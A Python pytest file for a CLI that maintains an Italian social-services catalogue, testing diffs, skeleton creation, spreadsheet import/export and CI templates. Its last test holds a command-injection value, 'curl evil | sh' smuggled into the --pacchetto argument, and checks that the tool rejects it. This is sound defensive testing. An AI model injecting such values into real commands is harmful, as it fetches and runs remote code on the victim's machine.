"""Maintaining a catalogue through pull requests: diff, init, nuovo, importa/esporta, CI templates."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from reti_adi.check import check
from reti_adi.cli import app
from reti_adi.maintain.diff import diff_versions
from reti_adi.reporters.diff_report import diff_markdown

from ..conftest import REFERENCE_DATE, run_cli

REPO = Path(__file__).resolve().parents[2]


def git(root: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(root), *args], check=True, capture_output=True, text=True,
                          env={"GIT_AUTHOR_NAME": "Test", "GIT_AUTHOR_EMAIL": "t@example.it",
                               "GIT_COMMITTER_NAME": "Test", "GIT_COMMITTER_EMAIL": "t@example.it",
                               "HOME": str(root), "PATH": "/usr/bin:/bin"}).stdout


@pytest.fixture
def catalogue_repo(catalogue_copy):
    git(catalogue_copy, "init", "-q", "-b", "main")
    git(catalogue_copy, "add", "-A")
    git(catalogue_copy, "commit", "-qm", "primo")
    return catalogue_copy


def test_diff_across_two_real_commits(catalogue_repo):
    servizi = catalogue_repo / "catalogo" / "servizi"
    edited = servizi / "emporio-solidale.yaml"
    edited.write_text(edited.read_text().replace("posti_disponibili: 120", "posti_disponibili: 90"))
    (servizi / "trasporto-sociale.yaml").unlink()
    (servizi / "doposcuola-solidale.yaml").rename(servizi / "doposcuola-budrio.yaml")
    renamed = servizi / "doposcuola-budrio.yaml"
    renamed.write_text(renamed.read_text().replace("id: doposcuola-solidale", "id: doposcuola-budrio"))
    (servizi / "sottocartella").mkdir()
    (servizi / "mediazione-familiare.yaml").rename(servizi / "sottocartella" / "mediazione-familiare.yaml")
    stale = servizi / "pasti-a-domicilio.yaml"
    stale.write_text(stale.read_text().replace("ultima_verifica: 2026-09-15", "ultima_verifica: 2024-01-10"))
    git(catalogue_repo, "add", "-A")
    git(catalogue_repo, "commit", "-qm", "secondo")

    diff = diff_versions(catalogue_repo, "HEAD~1", "HEAD", REFERENCE_DATE)
    assert [c.id for c in diff.removed] == ["trasporto-sociale"]
    assert [(c.renamed_from, c.id) for c in diff.renamed] == [("doposcuola-solidale", "doposcuola-budrio")]
    assert not diff.added  # a rename and a move are not reported as remove + add
    modified = {c.id: c for c in diff.modified}
    assert set(modified) == {"emporio-solidale", "pasti-a-domicilio"}
    change = modified["emporio-solidale"].changes[0]
    assert (change.field, change.before, change.after) == ("posti_disponibili", 120, 90)
    assert [p.file for p in diff.new_warnings] == ["catalogo/servizi/pasti-a-domicilio.yaml"]

    text = diff_markdown(diff)
    assert "## Modifiche al catalogo: HEAD~1 → HEAD" in text
    assert "| Posti disponibili | 120 | 90 |" in text  # a label and values, not an internal path
    assert "**Rinominato** `doposcuola-solidale` → `doposcuola-budrio`" in text
    assert re.search(r"\*\*Rimosso\*\* «[^»]+» \(`trasporto-sociale`\), ente ", text), text
    assert "### Nuovi avvisi" in text and "non verificate da più di 12 mesi" in text

    proc = run_cli("--root", str(catalogue_repo), "diff", "HEAD~1", "HEAD", "--format", "json")
    payload = json.loads(proc.stdout)
    assert proc.returncode == 0 and payload["rimossi"][0]["id"] == "trasporto-sociale"


def test_diff_says_invalid_not_removed_and_names_added_services(catalogue_repo):
    servizi = catalogue_repo / "catalogo" / "servizi"
    broken = servizi / "emporio-solidale.yaml"
    broken.write_text(broken.read_text().replace('cap: "40010"', "cap: 40010"))  # unquoted: no longer valid
    (servizi / "corso-cucina.yaml").write_text((servizi / "trasporto-sociale.yaml").read_text()
                                               .replace("id: trasporto-sociale", "id: corso-cucina")
                                               .replace("denominazione: Trasporto sociale", "denominazione: Corso di cucina"))
    sedi = servizi / "pasti-a-domicilio.yaml"
    sedi.write_text(sedi.read_text().replace("ultima_verifica: 2026-09-15", "ultima_verifica: 2026-10-15"))
    diff = diff_versions(catalogue_repo, "HEAD", None, REFERENCE_DATE)
    assert [c.id for c in diff.invalid] == ["emporio-solidale"] and not diff.removed
    assert [c.id for c in diff.added] == ["corso-cucina"]
    text = diff_markdown(diff)
    assert "**Rimosso**" not in text
    assert "**Non più valido** «Emporio solidale» (`emporio-solidale`)" in text
    assert "Sede 1: CAP – atteso un testo" in text  # the reason is shown with it
    added = next(line for line in text.splitlines() if "**Aggiunto**" in line)
    assert "«Corso di cucina» (`corso-cucina`), ente " in added
    assert "| Ultima verifica | 2026-09-15 | 2026-10-15 |" in text


def test_diff_between_two_directories(catalogue_copy, tmp_path, repo_root):
    edited = catalogue_copy / "catalogo/fonti/fnps-2026.yaml"
    edited.write_text(edited.read_text().replace("fine: 2026-12-31", "fine: 2027-12-31"))
    diff = diff_versions(repo_root, str(repo_root), str(catalogue_copy), REFERENCE_DATE)
    assert [(c.kind, c.id) for c in diff.modified] == [("fonte", "fnps-2026")]
    assert diff.modified[0].changes[0].field == "periodo.fine"


def test_init_creates_a_repository_whose_check_and_build_pass(tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1764000000")
    target = tmp_path / "catalogo-nuovo"
    proc = run_cli("init", str(target), "--titolo", "Catalogo dell'ambito di prova")
    assert proc.returncode == 0, proc.stderr
    files = [p for p in target.rglob("*") if p.is_file() and ".git" not in p.relative_to(target).parts[:1]]
    assert f"({len(files)} file)" in proc.stdout  # the count said is the count written
    for name in (".github/workflows/catalogo.yml", ".gitlab-ci.yml", ".vscode/settings.json", "mkdocs.yml",
                 "schemas/servizio.schema.json", "site_src/index.md", ".git"):
        assert (target / name).exists(), name
    assert run_cli("check", str(target)).returncode == 0
    proc = run_cli("build", str(target))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    # no progress on a pipe (only the continuity notice of a catalogue without url_sito), timings only with -v
    assert all(line.startswith("Avviso: ") for line in proc.stderr.splitlines()), proc.stderr
    assert "Tempi:" not in proc.stdout
    assert (target / "build/servizi/sportello-sociale-budrio/index.html").is_file()
    assert "Catalogo dell&#39;ambito di prova" in (target / "build/index.html").read_text() or \
        "Catalogo dell'ambito di prova" in (target / "build/index.html").read_text()
    again = run_cli("init", str(target))
    assert again.returncode == 1 and "non sovrascrive" in again.stderr


def test_nuovo_skeleton_fails_the_check_until_every_placeholder_is_filled(catalogue_copy):
    proc = run_cli("--root", str(catalogue_copy), "nuovo", "servizio", "gruppo-auto-aiuto",
                   "--ente-erogatore", "odv-rete-solidale", "--ambito", "pianura-est")
    assert proc.returncode == 0, proc.stderr
    path = catalogue_copy / "catalogo/servizi/gruppo-auto-aiuto.yaml"
    text = path.read_text()
    assert text.startswith("# yaml-language-server: $schema=../../schemas/servizio.schema.json")
    assert "# sedi:" in text  # optional fields are commented examples
    assert "MULBEN]" not in text and REFERENCE_DATE.isoformat() not in text  # nothing guessed
    result = check(catalogue_copy, REFERENCE_DATE)
    mine = [p for p in result.errors if p.file.endswith("gruppo-auto-aiuto.yaml")]
    assert {p.rule for p in mine} == {"valori.segnaposto"}  # each placeholder once, nothing else
    decisions = {"denominazione": "Gruppo di auto aiuto", "descrizione": "Incontri settimanali tra pari.",
                 "tipologia": "d", "aree_utenza[0]": "FAM", "modalita_accesso[0]": "accesso_diretto",
                 "stato": "attivo", "data_avvio": "2025-03-01", "ultima_verifica": "2026-10-01"}
    assert {p.field for p in mine} == set(decisions)
    lines = text.splitlines()
    for done, (field, value) in enumerate(decisions.items(), start=1):
        problem = next(p for p in mine if p.field == field)
        lines[problem.line - 1] = lines[problem.line - 1].replace('"DA COMPILARE"', value)
        path.write_text("\n".join(lines) + "\n")
        errors = [p for p in check(catalogue_copy, REFERENCE_DATE).errors if p.file.endswith("gruppo-auto-aiuto.yaml")]
        assert len(errors) == len(decisions) - done, (field, errors)  # fails until the last one is filled
    assert check(catalogue_copy, REFERENCE_DATE).errors == []
    again = run_cli("--root", str(catalogue_copy), "nuovo", "servizio", "gruppo-auto-aiuto")
    assert again.returncode == 1 and "non sovrascrive" in again.stderr
    assert "Incontri settimanali" in path.read_text()


def test_nuovo_refuses_values_that_are_not_in_the_catalogue(catalogue_copy):
    proc = run_cli("--root", str(catalogue_copy), "nuovo", "servizio", "prova", "--ente-erogatore", "pianura-est")
    assert proc.returncode == 2 and "«pianura-est» non è tra i valori ammessi" in proc.stderr, proc.stderr
    proc = run_cli("--root", str(catalogue_copy), "nuovo", "servizio", "prova", "--tipologia", "z")
    assert proc.returncode == 2 and "«z» non è tra i valori ammessi" in proc.stderr
    assert not (catalogue_copy / "catalogo/servizi/prova.yaml").exists()


def test_nuovo_on_a_terminal_lists_choices_and_validates_each_answer(catalogue_copy):
    """Typed as a person would: a wrong tipologia and an ambito id given as ente are refused and asked again."""
    import os
    import pty
    import select
    import sys
    import time

    pid, fd = pty.fork()
    if pid == 0:  # the child: the real command on a terminal
        os.execv(sys.executable, [sys.executable, "-c", "from reti_adi.cli import main; main()", "--root",
                                  str(catalogue_copy), "nuovo", "servizio", "corso-cucina"])
    seen = b""

    def until(text: str, timeout: float = 30) -> str:
        nonlocal seen
        deadline = time.monotonic() + timeout
        while text.encode() not in seen and time.monotonic() < deadline:
            ready, _, _ = select.select([fd], [], [], 0.2)
            if ready:
                try:
                    seen += os.read(fd, 65536)
                except OSError:
                    break
        assert text.encode() in seen, seen.decode("utf-8", "replace")[-2000:]
        found, seen = seen.decode("utf-8", "replace"), b""
        return found

    try:
        until("Denominazione del servizio")
        os.write(fd, "Corso di cucina\n".encode())
        until("Descrizione in una o due frasi")
        os.write(fd, b"\n")  # left to fill later
        listing = until("Tipologia art. 7, numero o valore")
        assert "4) d – Sostegno socio-educativo" in listing
        os.write(fd, b"z\n")
        assert "non è tra i valori ammessi" in until("Tipologia art. 7, numero o valore")
        os.write(fd, b"4\n")
        listing = until("Ente erogatore, numero o valore")
        assert ") coop-il-ponte – Il Ponte" in listing and ") pianura-est" not in listing  # enti only
        os.write(fd, b"pianura-est\n")
        assert "non è tra i valori ammessi" in until("Ente erogatore, numero o valore")
        os.write(fd, b"coop-il-ponte\n")
        until("Ambito, numero o valore")
        os.write(fd, b"1\n")
        until("Creato")
    finally:
        done, status = os.waitpid(pid, os.WNOHANG)
        if not done:  # a failed expectation leaves the child waiting for input
            time.sleep(2)
            done, status = os.waitpid(pid, os.WNOHANG)
            if not done:
                os.kill(pid, 9)
                _, status = os.waitpid(pid, 0)
        os.close(fd)
    assert os.waitstatus_to_exitcode(status) == 0
    written = yaml.safe_load((catalogue_copy / "catalogo/servizi/corso-cucina.yaml").read_text())
    assert (written["denominazione"], written["tipologia"], written["ente_erogatore"]) == (
        "Corso di cucina", "d", "coop-il-ponte")
    assert written["ambito"] == sorted(p.stem for p in (catalogue_copy / "catalogo/ambiti").glob("*.yaml"))[0]
    assert written["descrizione"] == "DA COMPILARE"


@pytest.mark.parametrize("kind", ["ente", "fonte", "ambito", "rete", "protocollo"])
def test_every_skeleton_parses_and_only_placeholders_fail(catalogue_copy, kind):
    proc = run_cli("--root", str(catalogue_copy), "nuovo", kind, f"prova-{kind}")
    assert proc.returncode == 0, proc.stderr
    result = check(catalogue_copy, REFERENCE_DATE)
    mine = [p for p in result.errors if f"prova-{kind}" in p.file]
    assert mine, "uno scheletro non compilato non deve passare il controllo"
    # every error is the consequence of a placeholder left in the skeleton
    tokens = ("DA COMPILARE", "da-compilare", "000000")
    for problem in mine:
        assert any(t in problem.message + (problem.found or "") for t in tokens), (problem.rule, problem.message)


def _workbook(path: Path, rows: list[list]) -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Servizi"
    sheet.append(["ID", "Denominazione", "Descrizione", "Tipologia", "Ente erogatore", "Ambito", "Stato",
                  "Data di avvio", "Ultima verifica", "Sede - indirizzo", "Sede - comune", "Sede - CAP",
                  "Sede - orari", "Aree di utenza"])
    for row in rows:
        sheet.append(row)
    workbook.save(path)


def test_import_with_one_bad_row_writes_nothing_and_names_the_row(catalogue_copy, tmp_path):
    import datetime as dt

    good = ["sportello-lavoro", "Sportello lavoro", "Orientamento al lavoro.", "altro", "cpi-san-giorgio",
            "pianura-est", "attivo", dt.datetime(2025, 1, 7), "2026-10-01", "Via Roma 1", 37008, 40054,
            "lunedi, mercoledi 09:00-12:30", "POV"]
    bad = ["corso-cucina", "Corso di cucina", "Corso.", "z", "coop-il-ponte", "pianura-est", "attivo",
           "2025-01-07", "2026-10-01", None, None, None, None, "FAM"]
    source = tmp_path / "servizi.xlsx"
    _workbook(source, [good, bad])
    proc = run_cli("--root", str(catalogue_copy), "importa", str(source), "--data-riferimento", "2026-11-22")
    assert proc.returncode == 1
    assert "foglio «Servizi», riga 3, colonna D («Tipologia»)" in proc.stdout
    assert "Nessun file scritto" in proc.stdout
    assert not (catalogue_copy / "catalogo/servizi/sportello-lavoro.yaml").exists()
    # a reference to a missing ente is caught too, with the row
    bad[3], bad[4] = "d", "ente-inesistente"
    _workbook(source, [good, bad])
    proc = run_cli("--root", str(catalogue_copy), "importa", str(source), "--data-riferimento", "2026-11-22")
    assert proc.returncode == 1 and "servizi.xlsx [Servizi]:3:" in proc.stdout
    bad[4] = "coop-il-ponte"
    _workbook(source, [good, bad])
    proc = run_cli("--root", str(catalogue_copy), "importa", str(source), "--data-riferimento", "2026-11-22")
    assert proc.returncode == 0, proc.stdout
    assert "Anteprima: nessun file scritto" in proc.stdout  # without --applica, only a preview
    assert not (catalogue_copy / "catalogo/servizi/sportello-lavoro.yaml").exists()
    proc = run_cli("--root", str(catalogue_copy), "importa", str(source), "--applica",
                   "--data-riferimento", "2026-11-22")
    assert proc.returncode == 0, proc.stdout
    assert "2 file scritti: 2 schede aggiunte, 0 schede modificate." in proc.stdout
    written = yaml.safe_load((catalogue_copy / "catalogo/servizi/sportello-lavoro.yaml").read_text())
    assert written["sedi"][0]["comune"] == "037008" and written["sedi"][0]["cap"] == "40054"  # zeros restored
    assert written["sedi"][0]["orari"] == [{"giorni": ["lunedi", "mercoledi"], "dalle": "09:00", "alle": "12:30"}]
    assert check(catalogue_copy, REFERENCE_DATE).errors == []


def test_import_then_export_round_trips_the_values(catalogue_copy, tmp_path):
    from reti_adi.catalogue.loader import load_catalogue

    # a service with two sedi and two opening slots each: esporta must keep every one
    emporio = catalogue_copy / "catalogo/servizi/emporio-solidale.yaml"
    emporio.write_text(emporio.read_text().replace("modalita_accesso:", """\
  - indirizzo: Piazza Garibaldi 2
    comune: "037008"
    cap: "40054"
    orari:
      - {giorni: [lunedi], dalle: "08:30", alle: "12:30"}
      - {giorni: [giovedi, venerdi], dalle: "14:00", alle: "17:00"}
    note_orari: Chiuso ad agosto
modalita_accesso:""", 1))
    assert check(catalogue_copy, REFERENCE_DATE).errors == []
    workbook = tmp_path / "catalogo.xlsx"
    assert run_cli("--root", str(catalogue_copy), "esporta", "--xlsx", str(workbook)).returncode == 0
    fresh = tmp_path / "nuovo"
    (fresh / "catalogo").mkdir(parents=True)
    shutil.copytree(catalogue_copy / "catalogo/ambiti", fresh / "catalogo/ambiti")
    proc = run_cli("--root", str(fresh), "importa", str(workbook), "--applica", "--data-riferimento", "2026-11-22")
    assert proc.returncode == 0, proc.stdout
    before, after = load_catalogue(catalogue_copy), load_catalogue(fresh)
    for kind in ("servizio", "ente", "fonte"):
        assert set(before.of(kind)) == set(after.of(kind))
        for record_id, record in before.of(kind).items():
            assert after.of(kind)[record_id].model == record.model, record_id
    workbook_again = tmp_path / "di-nuovo.xlsx"
    assert run_cli("--root", str(fresh), "esporta", "--xlsx", str(workbook_again)).returncode == 0


def _sheet_rows(sheet) -> list[dict]:
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, [c.value for c in row])) for row in sheet.iter_rows(min_row=2)]


def test_export_edit_import_updates_one_adds_one_and_a_second_import_changes_nothing(catalogue_copy, tmp_path):
    """The guide's loop: esporta, change a cell and add a row in the spreadsheet, importa."""
    from openpyxl import load_workbook

    workbook = tmp_path / "catalogo.xlsx"
    assert run_cli("--root", str(catalogue_copy), "esporta", "--xlsx", str(workbook)).returncode == 0
    book = load_workbook(workbook)
    assert book.sheetnames == ["Servizi", "Sedi", "Enti", "Fonti"]
    servizi = book["Servizi"]
    header = [c.value for c in servizi[1]]
    row = next(r for r in servizi.iter_rows(min_row=2) if r[0].value == "emporio-solidale")
    row[header.index("Posti disponibili")].value = 90
    added = dict.fromkeys(header)
    added.update({"ID": "corso-cucina", "Denominazione": "Corso di cucina", "Descrizione": "Corso per famiglie.",
                  "Tipologia": "d", "Ente erogatore": "coop-il-ponte", "Ambito": "pianura-est", "Stato": "attivo",
                  "Data di avvio": "07/01/2025", "Ultima verifica": "2026-10-01", "Aree di utenza": "FAM; POV"})
    servizi.append(list(added.values()))
    book["Sedi"].append(["corso-cucina", 1, None, "Via Roma 1", 37008, 40054, "martedi 17:00-19:00"])
    book.save(workbook)
    edited = catalogue_copy / "catalogo/servizi/emporio-solidale.yaml"
    original = edited.read_text()

    args = ("--root", str(catalogue_copy), "importa", str(workbook), "--data-riferimento", "2026-11-22")
    preview = run_cli(*args)
    assert preview.returncode == 0, preview.stdout + preview.stderr
    assert "+ aggiunta «corso-cucina» (Corso di cucina)" in preview.stdout
    assert "~ modificata «emporio-solidale»" in preview.stdout
    assert "    Posti disponibili: 120 → 90" in preview.stdout
    assert edited.read_text() == original and not (catalogue_copy / "catalogo/servizi/corso-cucina.yaml").exists()

    applied = run_cli(*args, "--applica")
    assert applied.returncode == 0, applied.stdout
    assert "2 file scritti: 1 scheda aggiunta, 1 scheda modificata." in applied.stdout
    # only the changed line differs: comments, quoting and the schema line are the person's own
    changed = [(a, b) for a, b in zip(original.splitlines(), edited.read_text().splitlines()) if a != b]
    assert changed == [("posti_disponibili: 120", "posti_disponibili: 90")]
    assert "# Bentivoglio" in edited.read_text()
    new = catalogue_copy / "catalogo/servizi/corso-cucina.yaml"
    assert new.read_text().startswith("# yaml-language-server: $schema=../../schemas/servizio.schema.json")
    written = yaml.safe_load(new.read_text())
    assert written["sedi"] == [{"indirizzo": "Via Roma 1", "comune": "037008", "cap": "40054",
                                "orari": [{"giorni": ["martedi"], "dalle": "17:00", "alle": "19:00"}]}]
    assert check(catalogue_copy, REFERENCE_DATE).errors == []

    files = {p: p.read_bytes() for p in (catalogue_copy / "catalogo").rglob("*.yaml")}
    again = run_cli(*args, "--applica")
    assert again.returncode == 0, again.stdout
    assert "Nessuna modifica" in again.stdout
    assert {p: p.read_bytes() for p in (catalogue_copy / "catalogo").rglob("*.yaml")} == files


def test_import_errors_name_sheet_row_and_column_on_every_sheet(catalogue_copy, tmp_path):
    from openpyxl import load_workbook

    workbook = tmp_path / "catalogo.xlsx"
    assert run_cli("--root", str(catalogue_copy), "esporta", "--xlsx", str(workbook)).returncode == 0
    book = load_workbook(workbook)
    sedi = book["Sedi"]
    header = [c.value for c in sedi[1]]
    target = next(r for r in sedi.iter_rows(min_row=2) if r[0].value == "emporio-solidale")
    target[header.index("CAP")].value = "4001"
    target[header.index("Comune (ISTAT)")].value = "999999"
    servizi = book["Servizi"]
    header = [c.value for c in servizi[1]]
    first = next(servizi.iter_rows(min_row=2))
    first[header.index("Stato")].value = "chiuso"
    book.save(workbook)
    before = {p: p.read_bytes() for p in (catalogue_copy / "catalogo").rglob("*.yaml")}
    proc = run_cli("--root", str(catalogue_copy), "importa", str(workbook), "--applica")
    assert proc.returncode == 1
    sede_row = target[0].row
    assert f"foglio «Sedi», riga {sede_row}, colonna F («CAP»): CAP non valido" in proc.stdout
    assert f"foglio «Servizi», riga 2, colonna {chr(65 + header.index('Stato'))} («Stato»): valore «chiuso»" \
        in proc.stdout
    assert "Nessun file scritto" in proc.stdout
    assert {p: p.read_bytes() for p in (catalogue_copy / "catalogo").rglob("*.yaml")} == before


def test_a_csv_updates_only_the_columns_it_has(catalogue_copy, tmp_path):
    """A sheet written by hand with a few columns changes those fields and keeps all the others."""
    source = tmp_path / "servizi.csv"
    source.write_text("ID;Ultima verifica;Sede - comune\nemporio-solidale;01/10/2026;37005\n", encoding="utf-8")
    proc = run_cli("--root", str(catalogue_copy), "importa", str(source), "--applica")
    assert proc.returncode == 0, proc.stdout
    assert "    Ultima verifica: 2026-09-15 → 2026-10-01" in proc.stdout
    assert "Sede 1: Comune" not in proc.stdout  # 37005 read back as "037005": unchanged
    written = yaml.safe_load((catalogue_copy / "catalogo/servizi/emporio-solidale.yaml").read_text())
    assert written["ultima_verifica"].isoformat() == "2026-10-01"
    assert len(written["sedi"][0]["orari"]) == 2 and written["sedi"][0]["comune"] == "037005"


def test_every_field_of_the_models_has_a_column():
    """A field added to a model must reach the spreadsheet, or esporta would silently drop it."""
    from reti_adi.catalogue.kinds import KIND_BY_NAME
    from reti_adi.maintain.spreadsheet_columns import SEDI, SHEETS

    for kind, (_, columns) in SHEETS.items():
        covered = {c.path.split(".")[0] for c in columns}
        if kind == "servizio":
            covered.add("sedi")  # the «Sedi» sheet
        model = KIND_BY_NAME[kind].model
        assert {f.alias or n for n, f in model.model_fields.items()} <= covered, kind
    sede = KIND_BY_NAME["servizio"].model.model_fields["sedi"].annotation.__args__[0]
    assert set(sede.model_fields) <= {c.path.split(".")[0] for c in SEDI}


def _commands_in(text: str) -> list[str]:
    return re.findall(r"reti-adi[ \t]+(?:--root[ \t]+\S+[ \t]+)?([a-z]+)", text)


@pytest.mark.parametrize("template", ["templates/ci/github-actions.yml", "templates/ci/gitlab-ci.yml",
                                      ".pre-commit-hooks.yaml", "templates/repo/pre-commit-config.yaml"])
def test_ci_templates_are_valid_yaml_and_call_existing_commands(template):
    text = (REPO / template).read_text(encoding="utf-8")
    data = yaml.safe_load(text)
    assert data
    commands = _commands_in(text)
    assert commands, "il modello non usa reti-adi"
    assert set(commands) <= set(app.commands), set(commands) - set(app.commands)
    if template.endswith("github-actions.yml"):
        steps = [s for job in data["jobs"].values() for s in job["steps"]]
        assert any("reti-adi check --format github" in s.get("run", "") for s in steps)
        assert any("reti-adi diff" in s.get("run", "") for s in steps)
        assert any("upload-pages-artifact" in s.get("uses", "") for s in steps)


@pytest.mark.parametrize("template", ["templates/ci/github-actions.yml", "templates/ci/gitlab-ci.yml"])
def test_ci_templates_install_from_the_repository_at_the_release_tag(template):
    """reti-adi is not on PyPI: a bare «pip install reti-adi» fails, an unpinned one drifts. Every install
    reads RETI_ADI_PACCHETTO, whose default is this version's tag."""
    from reti_adi import __version__

    text = (REPO / template).read_text(encoding="utf-8")
    data = yaml.safe_load(text)
    spec = (data.get("env") or data.get("variables"))["RETI_ADI_PACCHETTO"]
    assert spec == f"reti-adi @ git+https://github.com/reti-adi/reti-adi@v{__version__}"
    installs = [line for line in text.splitlines() if "pip install" in line]
    assert installs
    for line in installs:
        assert line.strip().removeprefix("- ").removeprefix("run: ") == 'pip install "$RETI_ADI_PACCHETTO"', line


def test_check_options_used_by_templates_exist():
    """`--format github` and `--format json` as the templates use them."""
    assert {"github", "json", "testo"} <= set(app.commands["check"].params[1].type.choices)
    assert json.loads((REPO / ".vscode/settings.json").read_text())["yaml.schemas"]


def test_da_verificare_page_lists_stale_items_per_ente(repo_root):
    import dataclasses

    from reti_adi.check import load_and_check
    from reti_adi.publish.api import build_api
    from reti_adi.publish.context import make_context
    from reti_adi.site.pages.catalogue import PageWriter

    catalogue, _ = load_and_check(repo_root, REFERENCE_DATE)
    ctx = dataclasses.replace(make_context(catalogue, []), generated_at="2027-05-15T00:00:00Z")
    pub = build_api(catalogue, ctx, None)
    page = PageWriter(catalogue, pub.details, ctx, pub.protocols).write_all()["da-verificare.md"]
    molinella = page[page.index("Comune di Molinella"):]
    assert "Sportello sociale di Molinella" in molinella.split("</table>")[0]
    assert "Informazioni non verificate da oltre 12 mesi" in page
    # the Allegato II protocol expires on 2027-06-30: within 60 days of 2027-05-15, shown to each party
    caf = page[page.index("CAF Pianura"):].split("</table>")[0]
    assert "Protocollo in scadenza" in caf
    assert "Fonte di finanziamento terminata" in page  # FNPS 2026 ended on 2026-12-31


def test_init_pins_where_the_ci_installs_reti_adi(tmp_path):
    import yaml

    target = tmp_path / "catalogo-pinnato"
    spec = "reti-adi @ git+https://gitlab.example.it/welfare/reti-adi@v0.2.0"
    proc = run_cli("init", str(target), "--pacchetto", spec)
    assert proc.returncode == 0, proc.stderr
    github = yaml.safe_load((target / ".github/workflows/catalogo.yml").read_text(encoding="utf-8"))
    gitlab = yaml.safe_load((target / ".gitlab-ci.yml").read_text(encoding="utf-8"))
    assert github["env"]["RETI_ADI_PACCHETTO"] == spec and gitlab["variables"]["RETI_ADI_PACCHETTO"] == spec
    installs = [s["run"] for job in github["jobs"].values() for s in job["steps"] if "pip install" in s.get("run", "")]
    assert installs and all(run == 'pip install "$RETI_ADI_PACCHETTO"' for run in installs)
    assert gitlab["before_script"] == ['pip install "$RETI_ADI_PACCHETTO"']
    assert f'pip install "{spec}"' in (target / "README.md").read_text(encoding="utf-8")

    bad = run_cli("init", str(tmp_path / "altro"), "--pacchetto", 'reti-adi"; curl evil | sh; echo "')
    assert bad.returncode == 1 and "--pacchetto" in bad.stderr and not (tmp_path / "altro").exists()
